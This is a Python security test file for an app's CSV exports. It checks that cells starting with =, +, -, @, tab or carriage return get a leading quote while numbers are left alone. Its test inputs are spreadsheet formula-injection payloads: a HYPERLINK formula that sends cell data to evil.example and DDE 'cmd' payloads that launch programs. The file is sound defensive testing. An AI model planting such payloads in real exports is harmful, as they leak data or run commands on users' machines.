"""Formula injection: a spreadsheet runs a CSV cell that starts with =, +, -, @, tab or carriage
return as a formula. Buyers write rating comments and merchants name themselves, so every
export (cases, figures by merchant, merchant outliers) neutralises such cells (OWASP: a
leading single quote) while numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from aiohttp.test_utils import TestClient
from sqlalchemy import update

from outreach.csv_export import to_csv
from outreach.store.db import session_scope
from outreach.store.models import Merchant, Satisfaction
from tests.factories import make_case
from tests.security.conftest import LEAD, login

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(value: str) -> None:
    [header, row] = cells(to_csv([{"text": value, "n": 1}], ["text", "n"]))
    assert header == ["text", "n"]
    assert row == ["'" + value, "1"]


def test_numbers_and_ordinary_text_are_written_as_they_are() -> None:
    rows = [{"nps": -20.0, "csat": 66.7, "cases": 3, "name": "蟹老大水产", "empty": None, "dash": "a-b"}]
    [_, row] = cells(to_csv(rows, ["nps", "csat", "cases", "name", "empty", "dash"]))
    assert row == ["-20.0", "66.7", "3", "蟹老大水产", "", "a-b"]


async def test_every_dashboard_export_neutralises_comments_and_merchant_names(client: TestClient) -> None:
    for number, formula in enumerate(FORMULAS):
        case_id, buyer_id, _ = make_case(status="closed")
        with session_scope() as session:
            session.add(Satisfaction(case_id=case_id, buyer_id=buyer_id, rating=1, comment=formula, recommend=2))
            session.execute(update(Merchant).where(Merchant.name == "蟹老大水产").values(name=f"{formula} #{number}"))
    await login(client, LEAD)
    exports = {"cases": "/dashboard/cases?format=csv", "figures by merchant": "/dashboard/?by=merchant&format=csv",
               "merchant outliers": "/dashboard/merchants?format=csv"}
    for name, path in exports.items():
        response = await client.get(path)
        assert response.status == 200, name
        written = [cell for row in cells(await response.text()) for cell in row]
        for formula in FORMULAS:
            assert any(cell.startswith("'" + formula) for cell in written), (name, formula)
        dangerous = [cell for cell in written if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not is_number(cell)]
        assert not dangerous, (name, dangerous)
